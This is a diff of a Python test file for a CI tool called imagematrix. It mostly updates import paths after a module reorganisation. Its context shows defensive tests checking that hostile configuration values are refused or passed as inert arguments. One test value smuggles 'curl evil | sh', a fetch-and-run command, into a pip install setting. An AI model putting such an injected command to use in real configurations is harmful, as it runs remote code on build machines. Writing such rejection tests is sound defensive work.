@@ -12,8 +12,10 @@ from dataclasses import replace
 import pytest
 import yaml
 
-from imagematrix import ci, cron, lint
-from imagematrix.model import ScheduleRun
+from imagematrix.cli import lint
+from imagematrix.core import cron
+from imagematrix.matrix import workflow as ci
+from imagematrix.matrix.model import ScheduleRun
 
 
 def test_the_committed_workflow_matches_matrix_yaml(sheet_matrix):
@@ -69,7 +71,7 @@ def test_actionlint_and_zizmor_find_nothing_in_the_workflow_and_something_in_a_b
 
 
 def _gate(env: dict[str, str]) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "imagematrix.cron", "plan"], capture_output=True, text=True,
+    return subprocess.run([sys.executable, "-m", "imagematrix.core.cron", "plan"], capture_output=True, text=True,
                           env={**os.environ, **env}, check=False)
 
 
@@ -115,7 +117,7 @@ with open(os.environ["CALLS"], "a") as f:
 if sys.argv[1:3] == ["-m", "venv"]:
     os.makedirs(sys.argv[3] + "/bin", exist_ok=True)
     shutil.copy(sys.argv[0], sys.argv[3] + "/bin/pip")
-if sys.argv[1:3] == ["-m", "imagematrix.cron"]:
+if sys.argv[1:3] == ["-m", "imagematrix.core.cron"]:
     print("jobs=[]")
 """
 HOSTILE = {
@@ -181,8 +183,8 @@ def test_hostile_values_reach_the_tool_as_single_arguments_and_run_nothing_else(
     ("install", "imagematrix; curl evil | sh", "not a pip requirement"),
 ])
 def test_ci_settings_are_refused_at_load(tmp_path, repo_root, key, value, needle):
-    from imagematrix.errors import MatrixError
-    from imagematrix.matrix import load_matrix
+    from imagematrix.core.errors import MatrixError
+    from imagematrix.matrix.load import load_matrix
 
     data = yaml.safe_load((repo_root / "examples" / "matrix.yaml").read_text())
     data["build"]["fragments_dir"] = str(repo_root / "dockerfiles")
